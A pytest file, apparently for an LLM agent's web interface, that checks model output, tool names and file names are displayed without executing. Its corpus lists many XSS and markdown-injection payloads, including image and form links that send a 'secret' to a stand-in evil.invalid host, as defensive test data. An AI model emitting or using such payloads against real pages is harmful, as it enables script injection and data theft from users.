"""What a model, a tool or a file says is shown, and never acts: no script, no request, no markup of its own."""

import pytest
from gateway_kit import shared
from web_kit import ask, finished, long_of, talk

from lmagent.testing.script import calls, say, slow, tool

CORPUS = [
    "<script>window.broken = 1</script>",
    "<img src=x onerror='window.broken = 2'>",
    "<svg/onload=window.broken=3><circle></svg>",
    "<math><mtext><table><mglyph><style><img src onerror=window.broken=4>",
    "<iframe srcdoc='<script>parent.broken=5</script>'></iframe>",
    "<a href='javascript:window.broken=6'>click</a>",
    "[click](javascript:window.broken=7)",
    "[click]( java&#115;cript:window.broken=8)",
    "[click](data:text/html,<script>opener.broken=9</script>)",
    "[click](vbscript:msgbox(1))",
    "![x](javascript:window.broken=10)",
    "![x](http://evil.invalid/pixel.png?q=secret)",
    "[![x](//evil.invalid/a.png)](//evil.invalid/b)",
    "<style>body{display:none}</style>",
    "<base href='http://evil.invalid/'>",
    "<form action='http://evil.invalid/'><button>Approve</button></form>",
    "<meta http-equiv='refresh' content='0;url=http://evil.invalid/'>",
    "<http://evil.invalid/auto>",
    "[ref]: javascript:window.broken=11 'x'\n\n[ref]",
    "`<b>code</b>`",
    "```html\n<script>window.broken=12</script>\n```",
    "<details open ontoggle='window.broken=13'>x</details>",
    "a | b\n--|--\n<img src=x onerror=window.broken=14> | [c](javascript:window.broken=15)",
    "&lt;script&gt;window.broken=16&lt;/script&gt;",
    "]]><!--[if IE]><script>window.broken=17</script><![endif]-->",
    "\u202egnp.exe <b onclick=alert(1)>",
]


@pytest.fixture
def spoken():
    return "\n\n".join(CORPUS)


def safe(page):
    assert page.evaluate("window.broken") is None
    assert (
        page.locator(".transcript :is(script, iframe, object, embed, form, style, base, meta, svg image)").count() == 0
    )
    assert page.locator(".transcript img").count() == 0
    assert page.evaluate("getComputedStyle(document.body).display") == "block"
    links = page.locator(".transcript a").evaluate_all("(links) => links.map((a) => [a.protocol, a.rel, a.target])")
    assert links
    assert all(link == ["http:", "noopener noreferrer", "_blank"] for link in links), links
    assert page.get_by_role("button", name="Approve").count() == 0


def test_nothing_acts_in_what_a_model_says_while_it_streams_and_after(screen, spoken):
    # The kit fails the test for any request to another host.
    with shared([slow(say(spoken, chunk=7), each=0.002)]) as running:
        page = screen(running)
        ask(page, "say it")
        page.locator(".said").first.wait_for()
        finished(page)
        safe(page)
        assert "<script>window.broken = 1</script>" in talk(page)
        assert "image: x, evil.invalid/…/pixel.png" in talk(page)
        page.reload()
        page.locator(".said").first.wait_for()
        safe(page)


def test_nothing_acts_in_a_name_a_result_a_thought_or_a_question(screen, spoken):
    name = "<img src=x onerror=window.broken=20>.txt"
    script = [
        calls(
            tool("read", path=name), tool("<script>window.broken=21</script>"), text=f"[a](http://example.org) {spoken}"
        ),
        say("[end](http://example.org)"),
    ]
    with shared(script, options=["--permission", "auto"]) as running:
        (running.workspace / name).write_text(spoken)
        page = screen(running)
        ask(page, f"<img src=x onerror=window.broken=22> {spoken}")
        finished(page)
        for line in page.locator(".tool-line").all():
            line.click()
        page.locator(".tool-details .output").first.wait_for()
        safe(page)
        assert page.title().startswith("<img src=x")


def test_markdown_is_shown_as_what_it_is(screen):
    text = (
        "# One\n\n1. first\n2. second\n\n| a | b |\n|---|--:|\n| x | 1 |\n\n- [x] ticked\n\n> quoted\n\n"
        "AT&amp;T ~~gone~~ *so* **much** `code`"
    )
    with shared([say(text)]) as running:
        page = screen(running)
        ask(page, "markdown")
        finished(page)
        said = page.locator(".said")
        assert said.locator("h3").inner_text() == "One"
        assert said.locator("ol li").all_inner_texts() == ["first", "second"]
        assert said.locator("td.right").inner_text() == "1"
        assert said.get_by_role("img", name="done").count() == 1
        assert said.locator("blockquote").inner_text() == "quoted"
        assert "AT&T" in said.inner_text()
        assert said.locator("del, em, strong, p > code").all_inner_texts() == ["gone", "so", "much", "code"]


def test_code_is_coloured_by_a_highlighter_that_comes_with_the_first_code_in_view(screen):
    with shared([say("plain"), say("```python\ndef f():\n    return 'x'\n```")]) as running:
        page = screen(running)
        asked = []
        page.on("request", lambda request: asked.append(request.url.rpartition("/")[2]))
        ask(page, "no code")
        finished(page)
        assert "highlight.js" not in asked
        ask(page, "code")
        page.locator(".code .code-keyword").first.wait_for()
        assert "highlight.js" in asked
        assert page.locator(".code .code-string").first.inner_text() == "'x'"


def test_long_code_is_coloured_to_its_end_and_what_spans_lines_stays_one(screen):
    """It is coloured in pieces: none may begin inside of a comment."""
    pieces = [f"int f{at}(int a) {{ return a + {at}; }}\n\n/* note {at}:\n   if while\n*/\n" for at in range(200)]
    code = "".join(pieces).rstrip("\n")
    with shared([say(f"```c\n{code}\n```")]) as running:
        page = screen(running)
        ask(page, "code")
        finished(page)
        page.locator(".code .code-quiet").get_by_text("note 199:").wait_for()
        assert page.locator(".code").text_content().rstrip("\n") == code
        selected = "place => { getSelection().selectAllChildren(place); return getSelection().toString(); }"
        assert page.locator(".code").evaluate(selected).rstrip("\n") == code
        notes = page.locator(".code .code-quiet").all_inner_texts()
        assert notes == [f"/* note {at}:\n   if while\n*/" for at in range(200)]
        assert "if" not in page.locator(".code .code-keyword").all_inner_texts()


@pytest.mark.parametrize(("language", "unit"), [("csharp", "unsigned "), ("typescript", "<a>\n"), ("markdown", "[ ")])
def test_code_that_keeps_the_highlighter_busy_is_whole_and_the_page_goes_on(screen, language, unit):
    code = long_of(unit, 10_000)[:49_000].rstrip()
    with shared([say(f"```{language}\n{code}\n```")]) as running:
        page = screen(running)
        ask(page, "code")
        finished(page)
        page.locator(".code span").first.wait_for()
        page.get_by_role("button", name="New session").click(timeout=5000)
        page.go_back()
        assert page.locator(".code").text_content().strip() == code


def test_a_letter_that_stands_where_a_piece_of_code_ends_stays_whole(screen):
    code = f'xy = "{"🌱 " * 2000}"'
    with shared([say(f"```python\n{code}\n```")]) as running:
        page = screen(running)
        ask(page, "go")
        page.locator("pre.code .code-string").first.wait_for()
        finished(page)
        halves = """() => {
          const texts = document.createTreeWalker(document.querySelector("pre.code"), NodeFilter.SHOW_TEXT);
          let found = 0;
          while (texts.nextNode()) found += texts.currentNode.data.isWellFormed() ? 0 : 1;
          return found;
        }"""
        page.wait_for_timeout(500)
        assert page.evaluate(halves) == 0
        assert page.locator("pre.code").inner_text().strip() == code
